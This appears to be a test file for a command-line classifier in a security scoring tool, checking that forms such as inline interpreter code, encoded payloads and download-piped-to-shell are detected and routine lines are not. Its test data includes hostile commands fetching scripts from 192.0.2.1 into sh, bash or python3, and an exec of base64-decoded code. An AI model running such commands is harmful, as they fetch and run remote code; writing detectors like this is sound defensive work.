import t from 'tap';
import { argumentForms } from '../scorer/features/argform';
import { FeatureExtractor } from '../scorer/features/extract';
import { UidMap } from '../scorer/features/subject';
import type { ResultRow } from '../scorer/types';
import { START, developerRow as row } from '../scorer/eval/developer-stream';

// The form of a command line (scorer/features/argform.ts): general shapes, not programs or
// places, read from a bounded head of the line.

t.test('the forms of attackers command lines, whatever the program', async (t) => {
  t.same(argumentForms('/opt/conda/envs/x/bin/python -c import base64,zlib;exec(zlib.decompress(base64.b64decode(eJx)))'), ['inline-code', 'encoded']);
  t.same(argumentForms('sudo -u app python3 -c print(1)'), ['inline-code'], 'past a wrapper and its option value');
  t.same(argumentForms('/bin/sh -c python3 -c "import pty"'), ['inline-code'], "a shell's code is a command line of its own");
  t.same(argumentForms('perl -e print'), ['inline-code']);
  t.same(argumentForms('php -r system($_GET[0]);'), ['inline-code']);
  t.same(argumentForms('/bin/sh -c curl -fsSL http://192.0.2.1/u.sh | sh'), ['pipe-shell']);
  t.same(argumentForms('wget -O- http://192.0.2.1/x | sudo -E bash -s'), ['pipe-shell']);
  t.same(argumentForms('(curl -s http://192.0.2.1/s | sh) >/dev/null 2>&1 &'), ['pipe-shell']);
  t.same(argumentForms('base64 -d'), ['encoded']);
  t.same(argumentForms('xxd -r -p'), ['encoded']);
  t.same(argumentForms('echo AAAAC3NzaC1lZDI1NTE5AAAAIKx7Fq9wD3m2Lk8pQ0rT5vY6uZ1nB4cE7hJ >> k'), ['encoded'], 'a blob');
  t.same(argumentForms(`printf ${'4f2a'.repeat(40)}`), ['encoded'], 'a hex run longer than a digest');
  // an interpreter's option with a separate value before the code hid it (rev2)
  t.same(argumentForms('python3 -W ignore -c import pty'), ['inline-code'], 'past -W and its value');
  t.same(argumentForms('python3 -X utf8 -c x'), ['inline-code']);
  t.same(argumentForms('php -d display_errors=0 -r system($x);'), ['inline-code']);
  t.same(argumentForms('node -r fs -e x'), ['inline-code']);
  t.same(argumentForms('bash -o pipefail -c python3 -c x'), ['inline-code'], "a shell's value option before its code");
  // an interpreter reading its code from a pipe, as a shell does (rev2)
  t.same(argumentForms('curl -s http://192.0.2.1/s.py | python3'), ['pipe-shell']);
  t.same(argumentForms('curl -s http://192.0.2.1/s.py | python3 -'), ['pipe-shell']);
});

t.test('routine command lines have no form', async (t) => {
  for (const line of [
    '/bin/sh -c cd / && run-parts --report /etc/cron.hourly',
    'bash -c ./release.sh',
    'psql -U postgres -c select 1',
    'conda install python -c conda-forge',
    'git -c core.quotepath=false status',
    'curl https://example.org/x | grep bash',
    'curl https://example.org/x | python3 -m json.tool',
    'git checkout 3fa47f0b9c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f',
    `runc --log /run/containerd/k8s.io/${'0b33e1616b9f64a5'.repeat(4)}/log.json`,
    '/usr/lib/python3/dist-packages/SomeVeryLongModuleName/SubPackage2/AnotherModule3/x.py',
    'base64 -w0 report.pdf',
    'python3 script.py -c config.yml',
    // piped into a script or into a shell given its code, not code from the pipe (rev2)
    'cat hosts | bash ./check.sh',
    'ls | xargs sh -c echo',
    'python3 -m http.server',
    '',
  ])
    t.same(argumentForms(line), [], line.slice(0, 60));
});

t.test('a hostile command line costs a bounded head of it', async (t) => {
  // megabytes of words, of one run, of separators: the head only is read
  const words = `ls ${'a '.repeat(2_000_000)}| python3 -c x`;
  const run = 'A1b'.repeat(3_000_000);
  const pipes = '|'.repeat(5_000_000) + ' sh';
  const start = process.hrtime.bigint();
  t.same(argumentForms(words), [], 'code past the head is not read');
  t.same(argumentForms(`echo ${run}`), ['encoded'], 'a blob in the head');
  t.same(argumentForms(pipes), [], 'a pipe past the head');
  t.same(argumentForms(`python3\u0000 -c\u001b[2J x`), [], 'control characters are part of words');
  t.same(argumentForms(`\u0007python3 -c x\r\n| bash`), ['pipe-shell'], 'a line break separates commands');
  // the bound is asserted by what is read above (a form past the head is not found); the
  // time is reported, not asserted
  t.comment(`${Number(process.hrtime.bigint() - start) / 1e6} ms`);
});

t.test('process and shell events carry the form as a class, paired with the program', async (t) => {
  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
  const proc = x.extract(row(START, '/usr/bin/python3.11', 'python3 -c import os')).event;
  t.same(
    proc.values.filter((v) => v.startsWith('argform=')),
    ['argform=inline-code'],
  );
  t.ok(
    proc.pairs.some((p) => p.endsWith('>argform=inline-code') && p.startsWith('exe=')),
    'paired with the program',
  );
  const shell: ResultRow = {
    query: 'pack_x_shell_history',
    host: 'h',
    time: 1_790_000_000,
    action: 'added',
    decorations: {},
    columns: { command: 'curl -s http://192.0.2.1/k | bash', uid: '1000' },
  };
  t.same(
    x.extract(shell).event.values.filter((v) => v.startsWith('argform=')),
    ['argform=pipe-shell'],
  );
});
